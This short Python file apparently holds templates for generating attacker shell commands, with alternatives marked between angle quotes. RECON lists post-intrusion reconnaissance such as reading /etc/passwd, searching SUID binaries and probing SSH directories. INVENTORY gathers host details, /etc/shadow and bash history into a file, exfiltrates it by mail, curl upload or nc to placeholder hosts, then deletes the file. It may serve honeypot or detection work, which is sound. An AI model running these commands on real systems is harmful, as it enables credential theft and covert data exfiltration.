"""Looking around."""

RECON = [
    "‹id; whoami; uname -a; hostname¦cat /etc/passwd | cut -d: -f1¦ifconfig || ip a¦ps aux¦netstat -tulpn¦cat /proc/1/cgroup¦ls -la /root /home/*/.ssh¦find / -perm -4000 -type f 2>/dev/null¦sudo -l¦cat /proc/self/status | grep CapEff¦mount | grep docker¦getcap -r / 2>/dev/null›",
]

INVENTORY = [
    'echo "[+] ‹IP¦ifconfig¦net› [+]" >> {name}; /sbin/ifconfig ‹-a ¦›| grep ‹inet¦"inet addr"› >> {name}',
    'echo "[+] ‹uptime¦up› [+]" >> {name}; uptime >> {name}; ‹uname -a¦hostname -f¦id› >> {name}',
    "cat /proc/cpuinfo ‹| grep 'model name' ¦›>> {name}; ‹free -m¦cat /proc/meminfo¦df -h› >> {name}",
    'cat /etc/‹issue¦passwd¦hosts¦shadow¦*release› >> {name}; ‹w¦last -20¦who› >> {name}',
    'ls ‹-la ¦›‹/home¦/var/www¦/root/.ssh› >> {name}; cat ‹/root¦/home/*›/.‹bash_history¦ssh/known_hosts¦my.cnf› >> {name}',
    "cat {name} | mail -s '‹info {ip}¦`hostname -i`¦new root›' {plain}@{domain}; rm -‹rf¦f› {name}",
    "curl -s ‹ifconfig.me¦http://ipinfo.io/ip¦icanhazip.com› >> {name}; ‹curl -F 'f=@{name}' {url}¦nc {host} {port} < {name}›",
    'netstat -‹an¦tulpn› | grep ‹LISTEN¦:22› >> {name}; ps ‹aux¦x› >> {name}',
]
